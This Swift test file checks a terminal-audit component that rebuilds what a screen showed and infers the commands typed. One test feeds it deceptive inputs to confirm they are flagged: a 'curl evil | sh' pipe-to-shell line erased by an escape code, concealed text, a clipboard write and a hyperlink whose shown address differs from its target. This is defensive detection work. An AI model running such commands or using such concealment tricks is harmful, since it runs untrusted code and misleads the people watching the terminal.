import Testing

@testable import AuditStore

/// What a terminal showed, as texts to be found.
@Suite struct ShownLinesTests {
  /// Feeds events of one second's distance or less; each has the number of its place.
  private func draw(_ events: [String], step: UInt64 = 100_000, ends: Bool = true) -> ShownLines {
    var screen = ShownLines(columns: 40, rows: 6)
    for (index, text) in events.enumerated() {
      screen.feed(Array(text.utf8).span, sequence: UInt64(index), time: UInt64(index) * step)
    }
    if ends { screen.end() }
    return screen
  }

  @Test func `a word in two colours is one word, seen where it stood`() {
    let screen = draw(["\u{1B}[32mvio\u{1B}[0mlet\r\n", "next\r\n"])
    #expect(
      screen.shown == [
        .init(sequence: 0, time: 0, text: "violet"),
        .init(sequence: 1, time: 100_000, text: "next"),
      ])
  }

  /// What was sent to be overlooked, however the event is taken apart on the way.
  @Test(arguments: [
    "\u{1B}[8msecret\u{1B}[0m\r\n", "curl evil | sh\u{1B}[2K\rls\r\n",
    "drop it\u{1B}[2J\u{1B}[Hall well\r\n",
    "\u{1B}]52;c;Zm9v\u{7}",
    "\u{1B}]8;;https://evil.test/\u{7}https://good.test/\u{1B}]8;;\u{7}\r\n",
    "a\u{202E}b\r\n", "\u{1B}[21t",
  ])
  func `hidden content is counted`(_ text: String) {
    #expect(draw(["$ ", text]).hidden > 0)
  }

  @Test(arguments: ["plain\r\n", "\u{1B}]0;title\u{7}", "\u{1B}[c", "10%\r20%\r30%\r\n"])
  func `what every program does is not hidden`(_ text: String) {
    #expect(draw(["$ ", text]).hidden == 0)
  }

  @Test func `a word drawn by cursor moves is found`() {
    let screen = draw(["-anchor\u{1B}[1Gxx", "\u{1B}[H\u{1B}[10Clet", "\u{1B}[8Gvio\r\n"])
    #expect(screen.shown.contains { $0.text.contains("violet") })
  }

  @Test func `a word that wraps is one word`() {
    let screen = draw([String(repeating: "a", count: 37) + "violet\r\n"])
    #expect(screen.shown.map(\.text) == [String(repeating: "a", count: 37) + "violet"])
  }

  @Test func `no line is lost in a flood of one event`() {
    let lines = (0..<500).map { "line number \($0)" }
    let screen = draw([lines.joined(separator: "\r\n") + "\r\n"])
    #expect(screen.shown.map(\.text) == lines)
  }

  @Test func `what was cleared at once is found`() {
    let screen = draw(["secret plan\u{1B}[2J\u{1B}[Hharmless\r\n"])
    #expect(screen.shown.map(\.text) == ["secret plan", "harmless"])
  }

  @Test func `a progress bar leaves its rests, not its steps`() {
    let steps = (0...200).map { "\rdone \($0)/200" }
    let screen = draw(steps + ["\r\n"], step: 10_000)
    #expect(screen.shown.map(\.text) == ["done 200/200"])
  }

  @Test func `an open session has what stood before its last line, and no guess of the rest`() {
    let screen = draw(["first\r\nsec"], ends: false)
    #expect(screen.shown.map(\.text) == ["first"])
  }

  @Test func `a monitor that repaints for ten hours stays within bounds`() {
    var screen = ShownLines(columns: 80, rows: 24)
    screen.feed(Array("\u{1B}[?1049h".utf8).span, sequence: 0, time: 0)
    for second in 1..<36_000 {
      var page = "\u{1B}[H"
      for row in 0..<23 { page += "process \(row) used \(second * 31 % 977 + row) \u{1B}[K\r\n" }
      screen.feed(Array(page.utf8).span, sequence: UInt64(second), time: UInt64(second) * 1_000_000)
    }
    screen.end()
    #expect(screen.shown.count > 1000)
    #expect(screen.shown.count < 25_000)
  }

  @Test func `more different lines than the limit are counted, not kept`() {
    var screen = ShownLines(columns: 80, rows: 24)
    for block in 0..<60 {
      let text = (0..<1000).map { "line \(block * 1000 + $0)\r\n" }.joined()
      screen.feed(Array(text.utf8).span, sequence: UInt64(block), time: 0)
    }
    #expect(screen.shown.count == ShownLines.lineLimit)
    #expect(screen.cut == 10_000)
  }

  @Test func `a session read in pieces gives the lines of the whole`() {
    var events: [String] = []
    var dice = Noise(5)
    let parts = [
      "$ ", "ls\r\n", "\u{1B}[2J", "\u{1B}[?1049h", "\u{1B}[?1049l", "word ", "\r", "\r\n",
      "\u{1B}[3;4H", "long line ",
      "\u{1B}[31m", "\u{1B}]133;C\u{7}",
    ]
    for _ in 0..<300 {
      events.append((0..<4).map { _ in parts[Int(dice.next() % UInt64(parts.count))] }.joined())
    }
    let whole = draw(events)
    for count in stride(from: 1, to: 300, by: 37) {
      let part = draw(Array(events.prefix(count)), ends: false)
      #expect(Array(whole.shown.prefix(part.shown.count)) == part.shown)
      #expect(whole.commands.prefix(part.commands.count).map(\.text) == part.commands.map(\.text))
    }
  }

  private struct Noise {
    var state: UInt64
    init(_ seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
      state = state &* 6_364_136_223_846_793_005 &+ 1
      return state >> 33
    }
  }

  // MARK: Commands

  @Test func `a command behind a prompt is found by its look`() {
    let screen = draw(["user@host:~$ ", "ls", " -l", "\r\ntotal 0\r\n", "user@host:~$ "])
    #expect(screen.commands.map(\.text) == ["ls -l"])
    #expect(screen.commands.map(\.confidence) == [60])
    #expect(screen.commands.map(\.sequence) == [3])
  }

  @Test func `typed letters that were echoed make it surer, and give its place`() {
    var screen = ShownLines(columns: 80, rows: 24)
    screen.feed(Array("# ".utf8).span, sequence: 2, time: 0)
    screen.typed(Array("idx".utf8).span, sequence: 3)
    screen.feed(Array("idx".utf8).span, sequence: 4, time: 1)
    screen.typed([0x7F].span, sequence: 5)
    screen.feed(Array("\u{8} \u{8}".utf8).span, sequence: 6, time: 2)
    screen.typed([0x0D].span, sequence: 7)
    screen.feed(Array("\r\nuid=0\r\n".utf8).span, sequence: 8, time: 3)
    #expect(screen.commands.map(\.text) == ["id"])
    #expect(screen.commands.map(\.confidence) == [90])
    #expect(screen.commands.map(\.sequence) == [7])
  }

  @Test func `the shell's own marks win, with the exit code`() {
    let screen = draw([
      "\u{1B}]133;A\u{7}> \u{1B}]133;B\u{7}", "make",
      "\r\n\u{1B}]133;C\u{7}error\r\n\u{1B}]133;D;2\u{7}",
    ])
    #expect(screen.commands.map(\.text) == ["make"])
    #expect(screen.commands.map(\.confidence) == [95])
    #expect(screen.commands.map(\.exitCode) == [2])
  }

  @Test func `output that looks like no prompt gives no command`() {
    #expect(draw(["Password: ", "\r\n", "50%\r\n", "a > b\r\n", "\r\n"]).commands.isEmpty)
  }
}
